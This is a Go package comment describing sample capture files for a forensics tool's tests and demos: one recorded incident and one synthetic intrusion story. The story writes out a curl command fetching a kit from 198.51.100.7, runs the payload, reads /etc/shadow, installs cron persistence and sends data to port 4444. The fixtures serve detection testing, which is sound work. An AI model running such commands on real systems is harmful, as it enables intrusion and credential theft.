// Package samples ships two small capture files of a security incident,
// embedded in the binary, for demos (`make demo`), documentation and the
// tests of the packages that read captures (queries, chisels, rules).
//
// # recorded.zst: recorded by the eBPF recorder
//
// [Recorded] is a real recording: record-incident.sh (run as root) starts
// `forensics record`, plays a small incident on the machine and cleans up
// after itself: a program dropped below /tmp (dumpcreds, a copy of cat)
// reads /etc/shadow and a private key, files are written below /usr/bin,
// /etc/cron.d and /dev, a shell is spawned with a terminal (script), bash
// connects to a listener on 127.0.0.1:4444, a binary gets the setuid bit, a
// script runs from /tmp, bash history is deleted, a log truncated, a
// symlink to /etc/shadow made, private keys searched for, and a shell in a
// cgroup named like a docker container's (so container.id is set) reads
// /etc/shadow. Only the events of the script's process tree are kept, no
// environments, and samples/internal/scrub cuts the process table and the
// snapshot to that tree. To record it again (pids, times and the container
// id change):
//
//	sudo samples/record-incident.sh        # writes samples/recorded.zst
//
// # incident.zst: synthetic
//
// [Incident] is SYNTHETIC. Nobody recorded it: the generator in this
// package's tests (gen_*_test.go) writes it event by event, deterministically
// (fixed timestamps from 2026-11-26T03:14:00Z, a fixed seed), and
// TestGenerateIncident checks that the committed incident.zst is exactly what
// the generator produces; its story is told in detail below and its facts
// are exported ([IncidentFacts]), so tests can assert exact values. To
// regenerate it after changing the generator:
//
//	go test ./samples -run TestGenerateIncident -update
//
// # The story
//
// The host web-01 (Debian 12, kernel 6.1.0-18-amd64, 2 CPUs, x86_64) serves
// a static web site with nginx and runs postgres and cron. The capture holds
// 60 seconds of it: about 3000 events of background activity (nginx
// answering clients and logging, postgres writing its WAL and data files,
// cron's minute tick running a health check) with the attack interleaved:
//
//  1. sshd (pid 812) accepts a TCP connection from 203.0.113.50:51514 to
//     10.0.0.12:22, forks a session process (pid 2201) that talks SSH and
//     then executes the login shell of user deploy (uid 1000): /bin/bash as
//     "-bash", loginuid 1000, on /dev/pts/1 (tty 34817).
//  2. deploy runs `sudo -i` (pid 2245), which starts a root login shell
//     (pid 2246; uid 0, the loginuid stays 1000).
//  3. The root shell runs `cat /etc/shadow` (pid 2290): open, a read of
//     1024 bytes (an obviously fake shadow file), close.
//  4. It downloads a kit: `curl -s -o /tmp/.x/kit.tgz
//     http://198.51.100.7/kit.tgz` (pid 2301) connects from 10.0.0.12:43210
//     to 198.51.100.7:80, sends a GET, reads the answer and writes
//     /tmp/.x/kit.tgz.
//  5. `tar -xzf /tmp/.x/kit.tgz -C /tmp/.x` (pid 2315) extracts
//     /tmp/.x/payload, `chmod 755 /tmp/.x/payload` (pid 2322) makes it
//     executable and the shell runs it (pid 2330).
//  6. The payload drops /usr/bin/.sshd-helper, installs the persistence
//     /etc/cron.d/update, connects to 198.51.100.7:4444 (from port 43228)
//     and sends data, deletes /tmp/.x/kit.tgz and exits.
//
// [IncidentFacts] returns these facts (addresses, fd names, files, the
// processes with their pids, credentials and command lines) for tests to
// assert against.
//
// # How the capture is built
//
// Like a recording by current drivers, it holds exit events only (plus the
// procexit tracepoint), with parameters in the libs wire encoding, I/O
// buffers cut at a snaplen of 80 bytes, every fd event enriched with its fd
// (number, type, name, tuple, open flags), and every event attributed to a
// process incarnation of the file's process table. A fork and an execve each
// start an incarnation; an incarnation's ExitTs is set when its thread
// exits or executes another program. The state snapshot at the start lists
// systemd, cron, sshd, nginx and postgres with their open fds, the users
// root, www-data, postgres and deploy, and their groups.
package samples
